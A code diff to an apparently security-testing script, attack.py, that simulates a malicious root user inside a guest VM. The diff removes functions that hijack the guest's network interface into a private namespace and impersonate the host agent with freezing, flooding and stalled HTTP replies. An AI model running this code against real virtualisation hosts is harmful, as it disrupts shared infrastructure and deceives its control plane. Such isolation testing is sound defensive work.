@@ -1,8 +1,6 @@
 """What root of a guest does to take from others what all share: attack.py NAME ARGUMENTS... Prints what it did."""
 
-import os
 import random
-import select
 import socket
 import struct
 import sys
@@ -11,7 +9,6 @@ import time
 
 GUEST, GATEWAY = "169.254.0.21", "169.254.0.22"
 MINE, THEIRS = bytes.fromhex("02fc00000005"), bytes.fromhex("02fc00000006")
-AGENT_PORT = 49983
 
 
 def checksum(data):
@@ -104,70 +101,6 @@ def pending(address, name, count, mark):
         except OSError:
             pass
     print(answered)
-
-
-def serve(connection, manner):
-    """Answers as a guest agent that means no good: it freezes, and takes no set-up."""
-    head = b""
-    while b"\r\n\r\n" not in head:
-        if not (data := connection.recv(65536)):
-            return
-        head += data
-    path = head.split()[1]
-    if path == b"/health":
-        connection.sendall(b"HTTP/1.1 204 No Content\r\n\r\n")
-    elif path == b"/freeze":
-        body = b'{"frozen":true}'
-        connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s"
-                           % (len(body), body))
-    elif path.endswith(b"/Start"):
-        connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/connect+proto\r\n"
-                           b"Transfer-Encoding: chunked\r\n\r\n")
-        # StartResponse { event: ProcessEvent { start: StartEvent { pid } } }, in envelopes of the Connect protocol.
-        for pid in range(1 << 14, 1 << 21, 1000):
-            varint = lambda n: bytes([n & 127 | 128, n >> 7 & 127 | 128, n >> 14])
-            events = b"".join(b"\0\0\0\0\x08\x0a\x06\x0a\x04\x08" + varint(n) for n in range(pid, pid + 1000))
-            connection.sendall(b"%x\r\n%s\r\n" % (len(events), events))
-    elif manner == "late":
-        for byte in b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n":
-            time.sleep(2)
-            connection.sendall(bytes([byte]))
-    time.sleep(10000)
-
-
-def replace(manner):
-    """Takes the network from envd, by moving the link into a namespace of its own, and answers in its place."""
-    if os.fork():
-        return
-    os.setsid()
-    # The caller waits for the end of its output.
-    quiet = os.open(os.devnull, os.O_RDWR)
-    for stream in range(3):
-        os.dup2(quiet, stream)
-    pid = os.getpid()
-    time.sleep(0.5)
-    commands = [
-        f"ip link set eth0 netns {pid}", f"nsenter -t {pid} -n ip addr add {GUEST}/30 dev eth0",
-        f"nsenter -t {pid} -n ip link set eth0 up", f"nsenter -t {pid} -n ip link set lo up",
-    ]
-    import ctypes
-    ctypes.CDLL(None).unshare(0x40000000)
-    # Of the namespace in which envd is.
-    if not os.fork():
-        sys.exit(sum(os.system(f"nsenter -t 1 -n {command}" if n == 0 else command)
-                     for n, command in enumerate(commands)))
-    os.wait()
-    listener = socket.create_server((GUEST, AGENT_PORT), backlog=128)
-    while True:
-        connection, _ = listener.accept()
-        threading.Thread(target=swallow, args=(connection, manner), daemon=True).start()
-
-
-def swallow(connection, manner):
-    try:
-        serve(connection, manner)
-    except OSError:
-        pass
 
 
 globals()[sys.argv[1]](*sys.argv[2:])
